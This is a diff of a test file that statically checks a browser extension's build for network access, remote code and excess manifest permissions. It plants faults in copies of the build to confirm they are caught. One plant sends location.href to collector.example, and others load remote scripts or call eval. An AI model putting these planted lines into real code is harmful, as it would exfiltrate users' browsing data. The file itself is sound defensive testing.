@@ -1,113 +1,65 @@
-// Static checks of the built extension (dist/chromium): nothing in it can reach the network, and
-// the manifest asks for no more than it needs. No browser needed.
+// Static checks of the built extension (dist/chromium, and dist/firefox when it is built): nothing in
+// it can reach the network or run code from elsewhere, and the manifest asks for no more than it
+// needs (tests/e2e/static-checks.mjs). No browser needed. The checks are also run on copies with
+// something bad planted, each of which must be caught.
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
+import os from 'node:os';
 import path from 'node:path';
-import { describe, it } from 'node:test';
+import { after, describe, it } from 'node:test';
 
 import { ROOT } from './server.mjs';
+import { checkExtensionDir, checkWasmImports, hits } from './static-checks.mjs';
 
 const DIST = path.resolve(process.env.HIRECHECK_DIST ?? path.join(ROOT, 'dist', 'chromium'));
-const GLUE = path.join(DIST, 'wasm', 'hirecheck.js');
-const WASM = path.join(DIST, 'wasm', 'hirecheck_bg.wasm');
-// offscreen: the safe mode's offscreen document (extension/fallback/relay.js); no install warning.
-const ALLOWED_PERMISSIONS = new Set(['storage', 'offscreen']);
+const FIREFOX = path.resolve(process.env.HIRECHECK_DIST_FIREFOX ?? path.join(ROOT, 'dist', 'firefox'));
+const temps = [];
+after(() => { for (const d of temps) fs.rmSync(d, { recursive: true, force: true }); });
 
-function files(dir, exts) {
-  const out = [];
-  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
-    const p = path.join(dir, e.name);
-    if (e.isDirectory()) out.push(...files(p, exts));
-    else if (exts.some((x) => e.name.endsWith(x))) out.push(p);
-  }
-  return out;
+/** A copy of `dir` in a temporary directory. */
+function copyOf(dir) {
+  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hirecheck-static-'));
+  temps.push(tmp);
+  fs.cpSync(dir, tmp, { recursive: true });
+  return tmp;
 }
 
-const rel = (p) => path.relative(DIST, p);
+const edit = (dir, file, f) => {
+  const p = path.join(dir, file);
+  fs.writeFileSync(p, f(fs.readFileSync(p, 'utf8')));
+};
 
-/** [line number, line] of every match of `re` (global) in `text`. */
-function hits(text, re) {
-  const out = [];
-  for (const m of text.matchAll(re)) {
-    const line = text.slice(0, m.index).split('\n').length;
-    out.push({ line, index: m.index, text: text.split('\n')[line - 1].trim().slice(0, 160), match: m[0] });
-  }
-  return out;
+/**
+ * A minimal wasm module whose only imports are functions named `names` (from module "wbg"): the
+ * binary format's magic, a type section with one `() -> ()` type, and an import section.
+ */
+function wasmImporting(names) {
+  const leb = (n) => { const out = []; do { let b = n & 0x7f; n >>>= 7; if (n) b |= 0x80; out.push(b); } while (n); return out; };
+  const str = (s) => { const b = [...Buffer.from(s, 'utf8')]; return [...leb(b.length), ...b]; };
+  const section = (id, body) => [id, ...leb(body.length), ...body];
+  const types = section(1, [1, 0x60, 0, 0]);
+  const imports = section(2, [...leb(names.length), ...names.flatMap((n) => [...str('wbg'), ...str(n), 0x00, 0x00])]);
+  return Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, ...types, ...imports]);
 }
 
-// APIs that talk to the network (or to another process that could), by name.
-const NETWORK_APIS = /\b(XMLHttpRequest|WebSocket|sendBeacon|EventSource|WebTransport|RTCPeerConnection|importScripts|connectNative|sendNativeMessage|chrome\.downloads|browser\.downloads)\b/g;
-// Setting a remote address where the browser would load it.
-const REMOTE_LOADS = /\b(src|href|action|data)\s*=\s*["'`]\s*(https?:)?\/\/|\bimport\s*\(\s*["'`]\s*(https?:)?\/\/|url\(\s*["']?\s*(https?:)?\/\//g;
-// The only fetch the extension's own code may make: one of its packaged files.
-const OWN_FETCH = /^fetch\s*\(\s*(chrome|browser)\.runtime\.getURL\(\s*(["'`])[^"'`]+\2\s*\)\s*[,)]/;
-
-describe('static checks of dist/chromium', () => {
-  it('is built', () => {
-    assert.ok(fs.existsSync(path.join(DIST, 'manifest.json')), `no ${DIST}/manifest.json: run 'make build'`);
-    assert.ok(fs.existsSync(GLUE), `no ${rel(GLUE)}`);
-    assert.ok(fs.existsSync(WASM), `no ${rel(WASM)}`);
-  });
-
-  it('the manifest asks for no host access and no permission beyond storage and offscreen', () => {
-    const text = fs.readFileSync(path.join(DIST, 'manifest.json'), 'utf8');
-    const m = JSON.parse(text);
-    assert.equal(m.manifest_version, 3);
-    assert.ok(!text.includes('<all_urls>'), 'manifest.json mentions <all_urls>');
-    assert.deepEqual(m.host_permissions ?? [], [], 'host_permissions');
-    assert.deepEqual(m.optional_host_permissions ?? [], [], 'optional_host_permissions');
-    const extra = [...(m.permissions ?? []), ...(m.optional_permissions ?? [])].filter((p) => !ALLOWED_PERMISSIONS.has(p));
-    assert.deepEqual(extra, [], `permissions beyond ${[...ALLOWED_PERMISSIONS].join(', ')}`);
-    assert.equal(m.externally_connectable, undefined, 'externally_connectable lets web pages message the extension');
-    for (const cs of m.content_scripts ?? []) {
-      for (const pat of cs.matches ?? []) {
-        assert.doesNotMatch(pat, /^(\*|https?|file):\/\/\*\//, `content script on every site: ${pat}`);
-      }
+describe('static checks of the built extension', () => {
+  it('dist/chromium is built', () => {
+    for (const f of ['manifest.json', 'wasm/hirecheck.js', 'wasm/hirecheck_bg.wasm']) {
+      assert.ok(fs.existsSync(path.join(DIST, f)), `no ${path.join(DIST, f)}: run 'make build'`);
     }
-    for (const w of m.web_accessible_resources ?? []) {
-      for (const pat of w.matches ?? []) assert.doesNotMatch(pat, /^(\*|https?):\/\/\*\//, `web_accessible_resources for every site: ${pat}`);
-    }
-    const csp = typeof m.content_security_policy === 'string' ? m.content_security_policy : Object.values(m.content_security_policy ?? {}).join(' ');
-    assert.doesNotMatch(csp, /https?:|\s\*|'unsafe-eval'|'unsafe-inline'|data:|blob:/, `content_security_policy allows remote or inline code: ${csp}`);
   });
 
-  it('the wasm-bindgen glue fetches nothing but its own module', () => {
-    const glue = fs.readFileSync(GLUE, 'utf8');
-    const fetches = hits(glue, /\bfetch\s*\(/g);
-    // wasm-bindgen --target web: `__wbg_init` fetches `module_or_path` when it is a URL or a string;
-    // the extension passes the packaged .wasm (or its bytes). Any other fetch is an import shim for a
-    // Rust call to a fetch API, which must not exist.
-    assert.deepEqual(fetches.map((h) => h.text), ['module_or_path = fetch(module_or_path);'],
-      `fetch calls in ${rel(GLUE)}`);
-    assert.deepEqual(hits(glue, NETWORK_APIS).map((h) => `${h.line}: ${h.text}`), [], `network APIs in ${rel(GLUE)}`);
-  });
-
-  it('the wasm module imports no network API', async () => {
-    const mod = await WebAssembly.compile(fs.readFileSync(WASM));
-    const names = WebAssembly.Module.imports(mod).map((i) => `${i.module}.${i.name}`);
-    assert.ok(names.length > 0, 'the wasm module imports nothing: is it the real build?');
-    const bad = names.filter((n) => /fetch|xmlhttp|websocket|sendbeacon|eventsource|webtransport|rtcpeer|importscripts|__wbg_open_|__wbg_set(src|href|action)_|__wbg_assign_|__wbg_sendbeacon_/i.test(n));
-    assert.deepEqual(bad, [], 'wasm imports that reach the network or navigate');
-  });
-
-  it("the extension's scripts and pages load nothing remote", () => {
-    const problems = [];
-    for (const f of files(DIST, ['.js', '.mjs', '.html', '.htm', '.css'])) {
-      if (f === GLUE) continue;
-      const text = fs.readFileSync(f, 'utf8');
-      for (const h of hits(text, NETWORK_APIS)) problems.push(`${rel(f)}:${h.line}: ${h.match}: ${h.text}`);
-      for (const h of hits(text, REMOTE_LOADS)) problems.push(`${rel(f)}:${h.line}: remote load: ${h.text}`);
-      for (const h of hits(text, /\bfetch\s*\(/g)) {
-        if (!OWN_FETCH.test(text.slice(h.index, h.index + 300))) {
-          problems.push(`${rel(f)}:${h.line}: fetch of something other than chrome.runtime.getURL('<packaged file>'): ${h.text}`);
-        }
+  for (const [label, dir] of [['dist/chromium', DIST], ['dist/firefox', FIREFOX]]) {
+    it(`${label}: no network API, no code from elsewhere, the wasm loaded from the package, a minimal manifest`, async (t) => {
+      if (dir === FIREFOX && !fs.existsSync(path.join(dir, 'manifest.json'))) {
+        t.diagnostic(`${label} is not built: nothing to check`);
+        return;
       }
-      if (/\.html?$/.test(f)) {
-        for (const h of hits(text, /<script\b(?![^>]*\bsrc=)[^>]*>\s*\S/gi)) problems.push(`${rel(f)}:${h.line}: inline script (blocked by the MV3 CSP): ${h.text}`);
-      }
-    }
-    assert.deepEqual(problems, []);
-  });
+      const { problems, counts } = await checkExtensionDir(dir);
+      t.diagnostic(`${counts.scanned} scripts and pages scanned, ${counts.initCalls} call(s) of the wasm glue's init, ${counts.imports} wasm imports`);
+      assert.deepEqual(problems, []);
+    });
+  }
 
   it('only the extension\'s own pages write what the client keeps (the content script only reads)', () => {
     // The checklist answers are the client's; a page could drive the content script, never the popup.
@@ -115,5 +67,66 @@ describe('static checks of dist/chromium', () => {
     const writes = hits(text, /\bstorage\s*\.\s*(local|sync|session)\s*\.\s*(set|remove|clear)\b/g);
     assert.deepEqual(writes.map((h) => `content.js:${h.line}: ${h.text}`), []);
     assert.ok(/storage\s*\.\s*local\s*\.\s*get\b/.test(text), 'content.js reads the checklist answers');
+  });
+});
+
+describe('the static checks catch what they are for', () => {
+  // Each plant: [file, how to change it, a pattern the problem list must match]. All go into one copy;
+  // each leaves its own message.
+  const PLANTS = [
+    ['content.js', (s) => `${s}\nfetch('https://collector.example/x?d=' + location.href);\n`, /^content\.js:\d+: network API fetch: fetch\('https:\/\/collector/],
+    ['background.js', (s) => `${s}\nconst x = new XMLHttpRequest();\n`, /^background\.js:\d+: network API XMLHttpRequest/],
+    ['popup.js', (s) => `${s}\nnavigator.sendBeacon('/b', 'x'); new WebSocket('wss://a.example'); new EventSource('/e');\n`, /^popup\.js:\d+: network API (sendBeacon|WebSocket|EventSource)/],
+    ['background.js', (s) => `${s}\nimportScripts('https://cdn.example/lib.js');\n`, /^background\.js:\d+: importScripts of something other than a packaged file/],
+    ['content.js', (s) => `${s}\nimport('https://cdn.example/m.js');\n`, /^content\.js:\d+: import of something other than a packaged file/],
+    ['popup.js', (s) => `${s}\nnew Worker(URL.createObjectURL(new Blob(['x'])));\n`, /^popup\.js:\d+: new Worker of something other than a packaged file/],
+    ['popup.js', (s) => `${s}\neval('1+1'); const f = new Function('return 1');\n`, /^popup\.js:\d+: code from a string \((eval|new Function)/],
+    ['popup.html', (s) => s.replace('</head>', '<script src="https://cdn.example/x.js"></script></head>'), /^popup\.html:\d+: remote (script|load)/],
+  ];
+
+  it('a copy with planted network code, remote code and eval fails, each in its own words', async (t) => {
+    const dir = copyOf(DIST);
+    for (const [file, f] of PLANTS) edit(dir, file, f);
+    const { problems } = await checkExtensionDir(dir);
+    t.diagnostic(`${problems.length} problems:\n  ${problems.join('\n  ')}`);
+    for (const [file, , re] of PLANTS) assert.ok(problems.some((p) => re.test(p)), `not caught in ${file}: ${re}`);
+  });
+
+  it('a second fetch in the glue, or the wasm loaded from elsewhere, fails', async () => {
+    const dir = copyOf(DIST);
+    edit(dir, 'wasm/hirecheck.js', (s) => `${s}\nexport function leak(u) { return fetch(u); }\n`);
+    edit(dir, 'content.js', (s) => {
+      const out = s.replace(/module_or_path:\s*chrome\.runtime\.getURL\([^)]*\)/, "module_or_path: 'https://cdn.example/hirecheck_bg.wasm'");
+      assert.notEqual(out, s, 'content.js no longer passes { module_or_path: chrome.runtime.getURL(...) }: update this test');
+      return out;
+    });
+    const { problems } = await checkExtensionDir(dir);
+    assert.ok(problems.some((p) => /wasm\/hirecheck\.js: expected exactly one fetch.*found 2/.test(p)), problems.join('\n'));
+    assert.ok(problems.some((p) => /^content\.js:\d+: the wasm is loaded from something other than runtime\.getURL/.test(p)), problems.join('\n'));
+  });
+
+  it('a manifest with network-capable permissions or host access fails', async () => {
+    const dir = copyOf(DIST);
+    edit(dir, 'manifest.json', (s) => {
+      const m = JSON.parse(s);
+      m.permissions = [...(m.permissions ?? []), 'webRequest', 'declarativeNetRequestWithHostAccess', 'proxy', 'tabs'];
+      m.host_permissions = ['https://*.example.com/*'];
+      m.optional_host_permissions = ['<all_urls>'];
+      m.update_url = 'https://updates.example/x.xml';
+      return JSON.stringify(m);
+    });
+    const { problems } = await checkExtensionDir(dir);
+    for (const re of [/"webRequest" \(it can see/, /"declarativeNetRequestWithHostAccess" \(it can see/, /"proxy" \(it can see/, /"tabs"; allowed: storage, offscreen/,
+      /host_permissions \["https:\/\/\*\.example\.com\/\*"\]/, /optional_host_permissions/, /<all_urls>/, /update_url/]) {
+      assert.ok(problems.some((p) => re.test(p)), `not caught: ${re}\n${problems.join('\n')}`);
+    }
+  });
+
+  it('a wasm module importing a network API fails; ordinary wasm-bindgen imports pass', async () => {
+    const bad = ['__wbg_fetch_1a2b3c', '__wbg_open_4d5e6f', '__wbg_new_with_str_and_init_Request_77', '__wbg_send_XMLHttpRequest_88', '__wbg_sendBeacon_99'];
+    const good = ['__wbg_new_227d7c05414eb861', '__wbg_querySelector_49877e2a9e3f670b', '__wbindgen_init_externref_table'];
+    const mod = await WebAssembly.compile(wasmImporting([...bad, ...good]));
+    const problems = checkWasmImports(WebAssembly.Module.imports(mod));
+    assert.deepEqual(problems.map((p) => p.replace(/^the wasm imports wbg\.(\S+),.*$/, '$1')), bad);
   });
 });
